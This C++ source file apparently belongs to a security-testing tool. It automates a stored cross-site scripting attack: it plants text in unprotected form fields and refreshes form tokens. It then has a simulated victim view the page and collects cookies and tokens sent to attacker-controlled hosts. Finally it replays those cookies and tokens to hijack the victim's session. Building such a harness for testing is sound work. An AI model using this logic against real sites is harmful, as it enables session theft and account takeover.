#include "core/attack/stored_text.h"

#include <algorithm>

#include "core/attack/lure.h"
#include "core/attack/request_writer.h"
#include "core/attack/session.h"
#include "core/http/percent.h"

namespace parapet::attack {
namespace {

constexpr std::size_t kMostTokensTried = 12;

std::vector<Spot> spots(Target const& target) {
    if (std::string_view const listed = target.option(option::kStore); !listed.empty())
        return spots_named(target, listed);
    std::vector<Spot> found;
    for (Endpoint const* each : unsafe_endpoints(target))
        for (std::size_t i = 0; i < each->parameters.size(); ++i)
            if (is_text(each->parameters[i]) && !is_token_name(each->parameters[i].name))
                found.push_back({each, i});
    return found;
}

}  // namespace

StoredText::StoredText(Target& target) : target_(target) {
    for (Spot const& spot : spots(target))
        places_.push_back({spot, look_at_form(target, *spot.endpoint, As::Attacker)});
}

bool StoredText::leave(std::string const& text) {
    bool is_left = false;
    for (Place const& place : places_) {
        std::vector<std::string> values = samples(*place.spot.endpoint);
        values[place.spot.parameter] = text;
        bool taken = succeeded(send_honestly(target_, *place.spot.endpoint, values, place.form));
        if (!taken) {
            // The token may have been good for once, or for a session that has ended.
            OwnForm const fresh = look_at_form(target_, *place.spot.endpoint, As::Attacker);
            taken = succeeded(send_honestly(target_, *place.spot.endpoint, values, fresh));
        }
        is_left = is_left || taken;
    }
    return is_left;
}

void StoredText::leave_all(std::vector<std::string> const& texts) {
    std::string all;
    for (std::string const& each : texts) all += each + '\n';
    if (texts.empty() || leave(all)) return;
    for (std::string const& each : texts) leave(each);
}

std::vector<std::string> StoredText::pages() const {
    std::vector<std::string> pages;
    auto endpoints = endpoints_option(target_, option::kReport, "");
    if (endpoints.empty()) endpoints = private_endpoints(target_);
    for (Endpoint const* each : endpoints)
        pages.push_back(target_.send(write_request(*each, samples(*each))).body);
    return pages;
}

std::vector<std::string> received_texts(Target& target) {
    std::vector<std::string> texts;
    for (OwnHost* host : target.hosts())
        for (http::Request const& request : host->received()) {
            std::size_t const query = request.target.find('?');
            if (query != std::string::npos)
                texts.push_back(http::percent_decode(request.target.substr(query + 1)));
            // A form writes t=… in its own way.
            if (request.body.starts_with("t="))
                texts.push_back(http::parse_query(request.body).front().value);
            else if (!request.body.empty())
                texts.push_back(request.body);
        }
    std::sort(texts.begin(), texts.end());
    texts.erase(std::unique(texts.begin(), texts.end()), texts.end());
    return texts;
}

void try_loot(Target& target, std::vector<std::string> const& texts) {
    std::vector<std::string> cookies, tokens;
    for (std::string const& text : texts) {
        // The first line is document.cookie.
        std::string const line = text.substr(0, text.find('\n'));
        bool const is_cookies =
            line.find('=') != std::string::npos && line.find_first_of("<>{}") == std::string::npos;
        if (is_cookies) cookies.push_back(line);
        for (std::string& each : tokens_in(text, kMostTokensTried))
            tokens.push_back(std::move(each));
    }
    auto const once = [](std::vector<std::string>& list) {
        std::sort(list.begin(), list.end());
        list.erase(std::unique(list.begin(), list.end()), list.end());
        if (list.size() > kMostTokensTried) list.resize(kMostTokensTried);
    };
    once(cookies);
    once(tokens);
    for (std::string const& line : cookies) use(target, cookies_in(line));
    if (tokens.empty()) return;
    Credentials const own = own_credentials(target);
    for (std::string const& token : tokens) use_everywhere(target, own, token);
}

bool victim_reads_and_loot_is_used(Target& target, Visit visit) {
    if (visit == Visit::First && !victim_signs_in(target)) return false;
    bool const has_other = visit == Visit::Another && !target.option(option::kAgain).empty();
    for (std::string const& routine :
         routines_option(target, has_other ? option::kAgain : option::kDoes)) {
        (void)target.victim()->does(routine);
        // He follows what looks like a link of the page, too.
        (void)target.victim()->clicks("Read more");
    }
    std::vector<std::string> const texts = received_texts(target);
    target.note(std::to_string(texts.size()) + " messages came to the attacker's hosts.");
    try_loot(target, texts);
    return !texts.empty();
}

}  // namespace parapet::attack
